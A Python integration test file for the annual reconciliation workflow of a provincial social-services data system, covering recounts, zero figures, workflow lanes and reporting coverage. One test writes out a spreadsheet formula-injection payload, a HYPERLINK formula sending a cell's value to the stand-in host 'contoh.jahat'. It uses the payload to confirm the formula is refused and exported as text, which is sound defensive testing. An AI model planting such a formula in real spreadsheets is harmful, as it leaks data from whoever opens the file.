"""What the head of the Dinas Sosial determines, and the year's process as it runs: figures changed
after the Forum's review counted again, a figure gone to zero, a decree a spreadsheet would run, a
diagram's lane below the year's region, a year opened in one process and reviewed in another."""

from __future__ import annotations

import re
from collections import Counter

import pytest
from sqlalchemy import func, select

from engine.bpmn import definitions, parsed_specs
from engine.core import clock
from engine.core.config import DEFAULT_BPMN_DIR
from engine.core.errors import Invalid
from engine.quality import aggregates
from engine.verification import determination_exports, determinations, forum_review, reconciliation
from models import Determination, ProcessInstance
from tests.factories import SYSTEM, decide, odha_person_died, open_period, person_row, submit
from tests.integration.reconciliation_steps import (
    YEAR,
    decree_at_head,
    open_tasks,
    person,
    review_regencies,
    to_the_head,
)


def test_figures_changed_after_the_forum_are_counted_again_before_they_are_determined(year):
    """A record verified between the Forum's review and the head's approval changes the figures: the
    head sees which, approval is refused, and a return counts them again for the Forum."""
    head = to_the_head(year, YEAR)
    late = open_period(year, f"{YEAR}-Q3", [person_row(5, kategori="ODHA")])
    submit(year, "op.desa", late)
    for user in ("verif.kec", "verif.kab", "valid.prov"):
        decide(year, user, late, "approve")
    with year.read() as session:
        shown = reconciliation.proposal(session, session.get(ProcessInstance, head.instance_id))
    assert ("ODHA", 2, [2, 0, 0, 0, 0]) in shown.baris  # what approval would freeze: the records now
    assert [(d.wilayah, d.kategori, d.dihitung, d.sekarang) for d in shown.berubah[:2]] == [
        ("65", "ODHA", 1, 2),
        ("65.01", "ODHA", 1, 2),
    ]
    approve = reconciliation.HeadDecision(head.id, "setuju", "", "SK-9/2027", "2026-11-25")
    with year.transaction() as session, pytest.raises(Invalid) as refused:
        reconciliation.decide_determination(session, person(year, "kepala.dinas"), approve)
    assert "berubah sejak dihitung ulang" in str(refused.value)
    assert refused.value.problems[0].message == "65 ODHA: 1 menjadi 2"
    with year.read() as session:
        assert session.scalar(select(func.count()).select_from(Determination)) == 0

    back = reconciliation.HeadDecision(head.id, "kembalikan", "ada ODHA yang baru diverifikasi")
    with year.transaction() as session:
        reconciliation.decide_determination(session, person(year, "kepala.dinas"), back)
    (forum,) = open_tasks(year, "tinjauan_forum")  # counted again on the way back to the Forum
    with year.read() as session:
        instance = session.get(ProcessInstance, forum.instance_id)
        assert reconciliation.proposal(session, instance).berubah == []
        listed = forum_review.discrepancies(session, instance)
    with year.transaction() as session:
        verdicts = {f.id: ("terima", "") for f in listed}
        forum_review.forum_review(session, person(year, "forum.sdi"), forum_review.ForumReview(forum.id, verdicts))
    (again,) = open_tasks(year, "penetapan_kepala")
    approve = reconciliation.HeadDecision(again.id, "setuju", "", "SK-9/2027", "2026-11-25")
    with year.transaction() as session:
        reconciliation.decide_determination(session, person(year, "kepala.dinas"), approve)
    with year.read() as session:
        frozen = session.scalar(select(Determination))
    assert ["65", "ODHA", 2] in frozen.content["angka"]


def test_figures_changed_between_the_heads_check_and_the_freeze_are_not_frozen(year, monkeypatch):
    """A late approval committed after the head's check read the figures, and before the freeze read
    them again (two connections, READ COMMITTED): the freeze checks what it freezes, and refuses."""
    head = to_the_head(year, YEAR)
    late = open_period(year, f"{YEAR}-Q3", [person_row(5, kategori="ODHA")])
    submit(year, "op.desa", late)
    for user in ("verif.kec", "verif.kab", "valid.prov"):
        decide(year, user, late, "approve")
    with year.read() as session:  # what the head's check saw: the figures before that approval
        seen = Counter(aggregates.counted_before(session, "65", str(YEAR)))
    monkeypatch.setattr(reconciliation.aggregates, "count_records", lambda *_: seen)
    approve = reconciliation.HeadDecision(head.id, "setuju", "", "SK-9/2027", "2026-11-25")
    with pytest.raises(Invalid) as refused, year.transaction() as session:
        reconciliation.decide_determination(session, person(year, "kepala.dinas"), approve)
    assert "berubah sejak dihitung ulang" in str(refused.value)
    with year.read() as session:
        assert session.scalar(select(func.count()).select_from(Determination)) == 0
    assert open_tasks(year, "penetapan_kepala")  # still the head's, to return to the Forum


def test_a_category_whose_last_record_is_gone_is_counted_as_zero(year):
    """Counted again, a figure no record gives any more is stored as 0, not kept at its old value."""
    with year.transaction() as session:
        assert aggregates.snapshot_records(session, SYSTEM, str(YEAR), "65")
    odha_person_died(year, f"{YEAR}-Q3", "meninggal Oktober")  # the desa's register, re-verified once more
    with year.transaction() as session:
        aggregates.snapshot_records(session, SYSTEM, str(YEAR), "65")
        before = aggregates.counted_before(session, "65", str(YEAR))
    assert before[("65", "ODHA")] == 0 and before[("65.01.01.2005", "ODHA")] == 0
    assert before[("65", "LUT")] == 3


def test_a_category_gone_before_the_next_period_is_counted_there_as_zero(year):
    """The last record of a category ended in the next year: that year's figure is 0, a drop the
    series checks can judge, not a missing year; and it stays 0 in the years after."""
    with year.transaction() as session:
        aggregates.snapshot_records(session, SYSTEM, str(YEAR), "65")
    odha_person_died(year, f"{YEAR + 1}-Q1")
    for later in (YEAR + 1, YEAR + 2):
        with year.transaction() as session:
            aggregates.snapshot_records(session, SYSTEM, str(later), "65")
            counted = aggregates.counted_before(session, "65", str(later))
        assert counted[("65", "ODHA")] == 0 and counted[("65.01.01.2005", "ODHA")] == 0
        assert counted[("65", "LUT")] == 3


def test_a_lane_below_the_years_region_is_refused_with_its_task_named(year):
    """A regency's review moved to a kecamatan lane: no kecamatan holds a regency's task."""
    xml = (DEFAULT_BPMN_DIR / "rekonsiliasi_tahunan.bpmn").read_text("utf-8")
    with year.transaction() as session:
        definitions.deploy(
            session, SYSTEM, xml.replace('name="kabupaten:walidata"', 'name="kecamatan"'), confirmed=True
        )
    with pytest.raises(Invalid) as refused, year.transaction() as session:
        reconciliation.open_year(session, person(year, "walidata.prov"), "65", YEAR, force=True)
    assert "Tinjauan kabupaten/kota" in str(refused.value)
    assert [p.element for p in refused.value.problems] == ["tinjauan_kabupaten"]
    with year.read() as session:  # nothing half-opened
        assert reconciliation.instance_of(session, YEAR) is None


def test_a_decree_number_a_spreadsheet_would_run_is_refused_and_never_exported_as_a_formula(year):
    import csv
    import io
    from datetime import date

    import openpyxl

    from engine.verification import determination_exports

    head = to_the_head(year, YEAR)
    formula = '=HYPERLINK("http://contoh.jahat/?x="&A2,"SK 1/2026")'
    refused_cmd = reconciliation.HeadDecision(head.id, "setuju", "", formula, "2026-11-25")
    with pytest.raises(Invalid) as refused, year.transaction() as session:
        reconciliation.decide_determination(session, person(year, "kepala.dinas"), refused_cmd)
    assert [p.column for p in refused.value.problems] == ["nomor_sk"]
    # one stored before the check (frozen directly here): its exports still show it as text
    with year.transaction() as session:
        frozen = determinations.freeze(
            session, SYSTEM, determinations.Approval("65", YEAR, formula, date(2026, 11, 25))
        )
        tz = year.settings.tz
        text = determination_exports.to_csv(session, frozen, tz).decode()
        book = openpyxl.load_workbook(io.BytesIO(determination_exports.to_xlsx(session, frozen, tz)))
    decree = next(row for row in csv.reader(io.StringIO(text)) if row and row[0] == "# nomor_sk")
    assert decree[1] == "'" + formula
    cell = next(row[1] for row in book["metadata"].iter_rows() if row[0].value == "nomor_sk")
    assert cell.value == "'" + formula and cell.data_type == "s"


def test_a_year_opened_in_one_process_is_reviewed_in_another(year):
    """The scheduler or the command line opens the year; the regencies' reviews arrive through the web
    server, another process with its own parse of the diagram. The last review must still lead on to
    the Forum (SpiffWorkflow ties the reviews to their parent only where it creates them)."""
    with year.transaction() as session:
        reconciliation.open_year(session, SYSTEM, "65", YEAR, force=True)
    definitions.forget_parsed()  # as another process starts: nothing parsed yet
    review_regencies(year)
    assert len(open_tasks(year, "tinjauan_forum")) == 1


def test_a_year_left_waiting_by_reviews_never_merged_goes_on_after_a_retry(year, monkeypatch):
    """A year stuck before the fix (its reviews finished where they were not tied to their parent) is
    moved on by the administrator's retry, which replays the merges that were missed."""
    from engine.verification import processes

    with year.transaction() as session:
        opened = reconciliation.open_year(session, SYSTEM, "65", YEAR, force=True)
    monkeypatch.setattr(parsed_specs, "tie_loop_children", lambda *specs: None)
    definitions.forget_parsed()
    review_regencies(year)
    assert open_tasks(year, "tinjauan_forum") == []  # stuck, as such a year was
    monkeypatch.undo()
    definitions.forget_parsed()
    with year.transaction() as session:
        processes.retry_instance(session, SYSTEM, opened.instance_id)
    assert len(open_tasks(year, "tinjauan_forum")) == 1


def test_the_list_of_determinations_does_not_read_their_record_lists(db, people):
    """A province's frozen record list runs to megabytes: the list reads what was written beside it."""
    from datetime import date

    from sqlalchemy import event

    from engine.verification.determinations import content_hash, digest_of
    from tests.factories import actor

    content = {
        "tahun": 2025,
        "wilayah": "65",
        "angka": [["65", "LUT", 3], ["65.01", "LUT", 3]],
        "catatan": [[1, 1]] * 3,
    }
    with db.transaction() as s:
        s.add(
            Determination(
                tahun=2025,
                region_kode="65",
                nomor_sk="188.44/12/2026",
                tanggal_sk=date(2026, 3, 1),
                approved_by="kepala.dinas",
                content_hash=content_hash(content),
                content=content,
                ringkasan=digest_of(content, "65"),
            )
        )
    sent: list[str] = []

    def seen(conn, cursor, statement, *rest):  # noqa: ANN001, ANN002
        sent.append(statement)

    event.listen(db.engine, "before_cursor_execute", seen)
    try:
        with db.read() as s:
            listed = determinations.list_determinations(s, actor(db, "valid.prov"))
    finally:
        event.remove(db.engine, "before_cursor_execute", seen)
    assert not any(re.search(r"determination\.content\b", sql) for sql in sent)  # its hash aside
    assert listed[0]["totals"] == {"LUT": 3, "jumlah": 3} and listed[0]["jumlah_catatan"] == 3
    with db.read() as s:
        whole = determinations.list_determinations(s, actor(db, "valid.prov"), whole=True)
    assert whole[0]["hash_sah"] is True and whole[0]["totals"] == listed[0]["totals"]


def test_a_regency_where_no_desa_reported_is_said_so_not_counted_as_zero(year):
    """Malinau's desa were asked for 2026-Q4 and none reported: the head reads "tidak melapor" where
    its figures would be 0, and the determination keeps each regency's reporting with its figures."""
    from engine.verification import coverage, cycles
    from tests.factories import SYSTEM as system

    db = year
    cycles.open_cycle(db, system, f"{YEAR}-Q4", region="65.02.01")  # Bulungan's desa was opened already
    cycles.close_cycle(db, system, f"{YEAR}-Q4", early=True)  # Malinau's desa are marked not reported
    head = to_the_head(db)
    with db.read() as session:
        asked = reconciliation.proposal(session, session.get(ProcessInstance, head.instance_id))
    assert asked.tidak_melapor == {"65.02", "65.03", "65.04", "65.71"}  # asked and silent, or not asked at all
    malinau, bulungan = asked.kelengkapan["65.02"], asked.kelengkapan["65.01"]
    assert (malinau.melapor, malinau.tidak_melapor) == (0, malinau.diharapkan) and malinau.diharapkan > 0
    assert (bulungan.diharapkan, bulungan.melapor, bulungan.disahkan) == (1, 1, 1)
    decree_at_head(db, head, "SK-9")
    with db.read() as session:
        frozen = determinations.latest(session, YEAR)
        kept = coverage.read(frozen.content)
        assert frozen.content_hash == determinations.content_hash(frozen.content)  # the hash covers it
    with db.read() as session:
        said = dict(determination_exports.metadata(session, frozen, clock.zone()))
    assert said[f"kelengkapan_65.02_{YEAR}-Q4"].startswith(f"0 dari {malinau.diharapkan} desa/kelurahan melapor")
    assert {c.kode: (c.diharapkan, c.melapor) for c in kept} == {
        "65.01": (1, 1),
        "65.02": (malinau.diharapkan, 0),
        **{c.kode: (0, 0) for c in kept if c.kode not in ("65.01", "65.02")},
    }


def test_a_revision_that_would_change_no_figure_is_said_so_to_the_head(year):
    db = year
    from tests.integration.reconciliation_steps import determine

    with db.read() as session:
        assert determinations.same_as_latest(session, YEAR, {("65", "LUT"): 3}, []) is None  # nothing determined yet
    determine(db, YEAR, "SK-1/2027")
    head = to_the_head(db, alasan_revisi="SK baru, angka tetap")
    with db.read() as session:
        asked = reconciliation.proposal(session, session.get(ProcessInstance, head.instance_id))
        assert asked.sama_dengan is not None and (asked.sama_dengan.revisi, asked.sama_dengan.nomor_sk) == (
            0,
            "SK-1/2027",
        )
        counts = aggregates.count_records(session, "65", str(YEAR))
        assert (
            determinations.same_as_latest(session, YEAR, {**counts, ("65", "LUT"): 99}, []) is None
        )  # one figure differs


def test_a_years_reporting_is_read_by_when_each_cycle_ends_and_over_the_whole_year(year):
    """Malinau's desa were asked three times in a year whose rhythm changed (S1, then Q3 and Q4); one
    reported in Q3 only. Its last cycle is Q4 (not S1, which sorts after it by name), and it is not a
    regency that reported nothing all year."""
    from engine.verification import coverage, cycles
    from models import Submission, SubmissionStatus
    from tests.factories import SYSTEM as system

    db = year
    for periode in (f"{YEAR}-S1", f"{YEAR}-Q3", f"{YEAR}-Q4"):
        cycles.open_cycle(db, system, periode, region="65.02.01")
        if periode.endswith("Q3"):
            with db.transaction() as session:  # one desa's submission went up (its operator is not in the world)
                one = session.scalar(select(Submission).where(Submission.periode == periode).limit(1))
                one.putaran, one.status = 1, SubmissionStatus.DIAJUKAN
        cycles.close_cycle(db, system, periode, early=True)
    with db.read() as session:
        found = coverage.of_year(session, "65", YEAR)
    assert [c.periode for c in found if c.kode == "65.02"] == [f"{YEAR}-S1", f"{YEAR}-Q3", f"{YEAR}-Q4"]
    assert coverage.latest_by_region(found)["65.02"].periode == f"{YEAR}-Q4"
    assert coverage.unreported(found) == {"65.03", "65.04", "65.71"}  # Malinau reported in Q3; these, never
    assert "65.02" in coverage.unreported([c for c in found if c.periode != f"{YEAR}-Q3"])
